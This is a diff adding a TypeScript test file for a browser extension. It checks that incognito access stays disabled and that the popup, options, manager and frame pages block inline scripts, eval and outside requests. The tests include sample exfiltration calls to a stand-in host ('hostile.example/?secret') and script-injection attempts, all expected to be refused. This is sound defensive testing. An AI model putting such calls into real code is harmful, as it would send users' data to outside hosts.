@@ -1,0 +1,68 @@
+import type { Chrome } from './harness/chrome';
+import { expect, test } from './harness/test';
+
+/** What the browser itself keeps us from, by the manifest. */
+
+declare const chrome: Chrome;
+
+test('a private window cannot be allowed to us', async ({ extension }) => {
+  const access = () =>
+    extension.desk.evaluate(
+      async (id) => (await chrome.developerPrivate.getExtensionInfo(id)).incognitoAccess,
+      extension.id,
+    );
+  expect(await access()).toMatchObject({ isEnabled: false, isActive: false });
+  await extension.desk
+    .evaluate(
+      (extensionId) =>
+        chrome.developerPrivate.updateExtensionConfiguration({ extensionId, incognitoAccess: true }),
+      extension.id,
+    )
+    .catch(() => undefined); // refused or without effect: either will do
+  expect(await access()).toMatchObject({ isEnabled: false, isActive: false });
+});
+
+for (const page of ['popup.html', 'options.html', 'manager.html', 'frame.html'])
+  test(`${page} runs nothing but its own files, and sends nothing anywhere`, async ({
+    extension,
+    sandbox,
+    complaints,
+  }) => {
+    const opened = await extension.open(page);
+    const before = sandbox.requests.length;
+    const tried = await opened.evaluate(async () => {
+      const settled = (work: Promise<unknown>) =>
+        work.then(
+          () => 'done',
+          () => 'refused',
+        );
+      const picture = (src: string) => {
+        const image = new Image();
+        const loaded = new Promise((resolve, reject) => {
+          image.onload = resolve;
+          image.onerror = reject;
+        });
+        image.src = src;
+        return settled(loaded);
+      };
+      const inline = document.createElement('script');
+      inline.textContent = "document.documentElement.dataset.executed = 'inline'";
+      document.head.append(inline);
+      const evaluated = await settled((async () => new Function('return 1')())());
+      document.body.setAttribute('onclick', "document.documentElement.dataset.executed = 'attribute'");
+      document.body.click();
+      return {
+        evaluated,
+        executed: document.documentElement.dataset.executed,
+        fetched: await settled(fetch('https://hostile.example/?secret')),
+        drawn: await picture('https://hostile.example/secret.png'),
+      };
+    });
+    expect(tried).toMatchObject({ evaluated: 'refused', fetched: 'refused', drawn: 'refused' });
+    expect(tried.executed).toBeUndefined();
+    expect(sandbox.requests.slice(before).filter(({ host }) => host === 'hostile.example')).toEqual([]);
+    // That the browser reports each attempt is what it should do.
+    await expect.poll(() => complaints.collect()).not.toEqual([]);
+    await opened.close();
+    await complaints.collect();
+  });
